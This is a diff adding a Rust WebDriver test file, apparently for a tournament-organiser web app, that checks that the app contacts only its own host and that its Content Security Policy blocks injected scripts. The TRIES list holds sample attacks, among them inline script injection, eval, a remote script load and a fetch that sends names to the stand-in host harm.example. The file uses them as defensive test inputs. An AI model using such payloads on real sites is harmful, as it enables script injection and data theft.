@@ -1,0 +1,163 @@
+//! What the app asks for, and of whom: a day of an event with every page, every file and the second screen, each request
+//! written down by the host itself; and what the security policy of the page refuses.
+
+use std::{collections::BTreeSet, fs, sync::PoisonError};
+
+use serde_json::Value;
+use thirtyfour::prelude::*;
+
+use crate::{
+    finished::Event,
+    organiser::NAMES,
+    page::Page,
+    site::{Site, dist},
+    visit::Visit,
+};
+
+/// A day with everything that the app can be asked for.
+async fn day(page: &mut Page, site: &Site) -> WebDriverResult<()> {
+    page.custom_event(site, 2, 2, &NAMES[..6]).await?;
+    page.round(1).await?;
+    page.press("Start").await?;
+    page.play(&NAMES).await?;
+    for leaf in [
+        "setup",
+        "players",
+        "round",
+        "standing",
+        "bracket",
+        "statistics",
+        "paper",
+        "judges",
+        "log",
+        "rules",
+        "screen",
+        "more",
+    ] {
+        page.leaf(leaf).await?;
+    }
+    let event = page.value("location.hash.split('/')[2]").await?;
+    let event = event.as_str().unwrap_or_default().to_owned();
+    // A slip by its code, the second screen, another language and look.
+    page.open_tab(&format!("{}#/e/{event}/round/1/t/1", site.address())).await?;
+    page.shows(".sheet__title", "able 1").await?;
+    page.open_tab(&format!("{}#/e/{event}/display", site.address())).await?;
+    page.shows(".screen__title, h1", "").await?;
+    page.open_tab(site.address()).await?;
+    page.turn_to("#/settings").await?;
+    for language in ["Français", "Italiano", "Español", "English"] {
+        page.press(language).await?;
+    }
+    page.press("Dark").await?;
+    page.press("Test sound").await?;
+    page.turn_to("#/").await?;
+    page.press("Demo event").await?;
+    page.says("Round 3").await?;
+    page.turn_to("#/").await?;
+    page.shows("h1", "Events").await?;
+    let file = Event::finished().file(page);
+    page.upload("input[type=file]", &file).await?;
+    page.says("Opened: Spring Open").await?;
+    page.leaf("standing").await?;
+    for act in
+        ["Standing as CSV", "Matches as CSV", "Results page", "For Cryodex and List Juggler", "For List Fortress"]
+    {
+        page.press(act).await?;
+    }
+    page.downloaded_like("results").await?;
+    page.turn_to("#/").await?;
+    page.press("Download all").await?;
+    page.press("More about Spring Open").await?;
+    page.press("Download the file").await?;
+    page.press("Delete from this device").await
+}
+
+#[test]
+fn a_whole_day_asks_nobody_but_its_own_host_for_its_own_files() {
+    let (site, asked) = Site::listening("/shop/topcut/");
+    Visit::laptop().run(async |page| {
+        day(page, &site).await?;
+        page.until("navigator.serviceWorker.controller !== null").await?;
+        page.reload().await?;
+        page.shows("h1", "").await?;
+        // All of the browser's pages asked only here, by GET, and said nothing in the address.
+        for address in page.requests().await {
+            assert!(address.starts_with(site.address()) && !address.contains('?'), "{address}");
+        }
+        // All that the host heard, of the pages and of the worker that keeps the app.
+        let heard: BTreeSet<String> = asked.lock().unwrap_or_else(PoisonError::into_inner).iter().cloned().collect();
+        assert!(heard.len() > 10, "{heard:?}");
+        for request in &heard {
+            let file =
+                request.strip_prefix("GET /shop/topcut/").unwrap_or_else(|| panic!("a foreign request: {request}"));
+            assert!(!file.contains(['?', '#', '%']), "no data in an address: {request}");
+            let file = dist().join(if file.is_empty() { "index.html" } else { file });
+            assert!(file.is_file(), "a file of the site: {request}");
+        }
+        println!("Requests of a whole day: {} addresses, all GET, all files of the site", heard.len());
+        Ok(())
+    });
+}
+
+/// What the page is made to try, each with the directive that refuses it.
+const TRIES: [(&str, &str); 9] = [
+    (
+        "script-src",
+        "const it = document.createElement('script'); it.textContent = 'window.harmed = 1'; document.body.append(it)",
+    ),
+    (
+        "script-src",
+        "const it = document.createElement('script'); it.src = 'https://harm.example/a.js'; document.body.append(it)",
+    ),
+    (
+        "script-src",
+        "document.body.insertAdjacentHTML('beforeend', '<p onclick=\"window.harmed = 2\" class=\"trap\">x</p>'); document.querySelector('.trap').click()",
+    ),
+    ("script-src", "eval('window.harmed = 3')"),
+    ("script-src", "new Function('window.harmed = 4')()"),
+    ("connect-src", "fetch('https://harm.example/?names=all').catch(() => 0)"),
+    ("img-src", "new Image().src = 'https://harm.example/a.png'"),
+    (
+        "frame-src",
+        "const it = document.createElement('iframe'); it.src = 'https://harm.example/'; document.body.append(it)",
+    ),
+    (
+        "form-action",
+        "const it = document.createElement('form'); it.action = 'https://harm.example/'; document.body.append(it); it.submit()",
+    ),
+];
+
+#[test]
+fn the_page_refuses_foreign_scripts_and_foreign_hosts() {
+    let site = Site::at("/");
+    Visit::laptop().run(async |page| {
+        page.tolerate("Content Security Policy");
+        page.enter(&site).await?;
+        page.value("(window.refused = [], document.addEventListener('securitypolicyviolation', event => refused.push(event.effectiveDirective)), true)").await?;
+        for (directive, script) in TRIES {
+            page.value("(refused.length = 0, true)").await?;
+            // As a script of the page would, not as a tool that may do more.
+            page.execute(format!("setTimeout(() => {{ try {{ {script} }} catch {{ }} }})"), Vec::new()).await?;
+            page.until(&format!("refused.some(what => what.startsWith('{directive}'))")).await?;
+        }
+        assert_eq!(page.value("window.harmed ?? null").await?, Value::Null);
+        // Nothing left the page for a foreign host, not even what was refused.
+        assert!(page.requests().await.iter().all(|address| address.starts_with(site.address())));
+        Ok(())
+    });
+}
+
+#[test]
+fn what_a_host_delivers_names_no_other_host() {
+    for entry in fs::read_dir(dist()).expect("the site").flatten() {
+        let path = entry.path();
+        let Some("js" | "html" | "css" | "webmanifest" | "json" | "svg") = path.extension().and_then(|it| it.to_str())
+        else {
+            continue;
+        };
+        let text = fs::read_to_string(&path).expect("a text").replace("http://www.w3.org/", "");
+        for scheme in ["http://", "https://", "//cdn", "wss:"] {
+            assert!(!text.contains(scheme), "{} names {scheme}", path.display());
+        }
+    }
+}
